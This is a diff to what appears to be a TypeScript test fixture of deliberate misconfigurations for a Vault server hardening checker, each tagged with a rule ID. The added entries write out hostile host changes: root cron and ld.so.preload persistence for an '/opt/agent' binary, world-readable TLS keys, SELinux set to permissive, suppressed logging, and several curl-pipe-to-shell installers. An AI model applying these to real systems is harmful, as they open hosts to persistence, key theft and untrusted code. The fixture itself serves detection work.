@@ -27,6 +27,13 @@ export const HOST: readonly Mutation[] = [
   written("HOST-04", "/etc/systemd/system/vault.service.d/50-open.conf", "[Service]\nProtectSystem=no\n"),
   written("HOST-04", "/etc/systemd/system/service.d/50-open.conf", "[Service]\nNoNewPrivileges=no\n"),
   written("HOST-04", "/etc/systemd/system/vault.service.d/50-write.conf", "[Service]\nReadWritePaths=/\n"),
+  step("HOST-02", "echo 1 > /proc/sys/fs/suid_dumpable"),
+  written("HOST-02", "/etc/sysctl.conf", "fs.suid_dumpable = 1\n"),
+  written("HOST-04", "/etc/systemd/system/vault.service.d/50-kill.conf", "[Service]\nKillMode=none\n"),
+  step("HOST-05", "chmod 0644 /etc/vault.d/tls/key.pem"),
+  step("HOST-05", "chmod 0755 /var/lib/vault"),
+  written("HOST-05", "/etc/tmpfiles.d/zz.conf", "z /usr/local/bin/vault 0755 vault vault -\n"),
+  written("HOST-05", "/etc/tmpfiles.d/zz.conf", "a+ /var/log/vault - - - - u:nobody:rwx\n"),
   step("HOST-05", "chmod 0777 /etc/vault.d"),
   step("HOST-05", "chmod -R a+rwx /etc/vault.d"),
   step("HOST-05", "chown vault:vault /usr/local/bin/vault"),
@@ -37,6 +44,22 @@ export const HOST: readonly Mutation[] = [
     "HOST-06",
     "/etc/systemd/system/nginx.service",
     "[Service]\nExecStart=/usr/sbin/nginx -g 'daemon off;'\n[Install]\nWantedBy=multi-user.target\n",
+  ),
+  written("HOST-06", "/etc/cron.d/site", "* * * * * root /opt/agent\n"),
+  written("HOST-06", "/etc/rc.local", "#!/bin/sh\n/opt/agent &\n", 0o755),
+  written("HOST-06", "/etc/ld.so.preload", "/opt/agent.so\n"),
+  step("HOST-06", "systemd-run --unit=agent /opt/agent"),
+  written("HOST-06", "/etc/rsyslog.d/net.conf", 'module(load="imudp")\ninput(type="imudp" port="514")\n'),
+  step("HOST-09", "mount -o remount,exec,suid /var/lib/vault"),
+  step("HOST-10", "sed -i s/enforcing/permissive/ /etc/selinux/config"),
+  added("HOST-10", "machines that AWS may take back", (draft) => {
+    draft.resource("aws_launch_template").instance_market_options = { market_type: "spot" };
+  }),
+  written("CFG-08", "/etc/systemd/system/vault.service.d/50-log.conf", "[Service]\nStandardOutput=null\n"),
+  added("TLS-07", "a key where Vault may write", (draft) =>
+    draft.server((server) => {
+      server.listener[0].tcp.tls_key_file = "/var/lib/vault/key.pem";
+    }),
   ),
   written("HOST-07", "/etc/profile.d/zz-site.sh", "HISTFILE=$HOME/.bash_history\nHISTSIZE=10000\n"),
   written("HOST-08", "/etc/chrony.d/site.conf", "server 0.pool.ntp.org iburst\n"),
@@ -62,6 +85,8 @@ export const HOST: readonly Mutation[] = [
   }),
   step("HOST-10", "sysctl -w kernel.yama.ptrace_scope=0"),
   step("SUP-02", "curl -fsSL https://example.com/install.sh | sh"),
+  step("SUP-02", 'sh -c "$(curl -fsSL https://example.com/install.sh)"'),
+  step("SUP-02", "bash <(curl -s https://example.com/install.sh)"),
   step("SUP-02", "wget -qO- https://example.com/install.sh | bash"),
   step(
     "SUP-02",
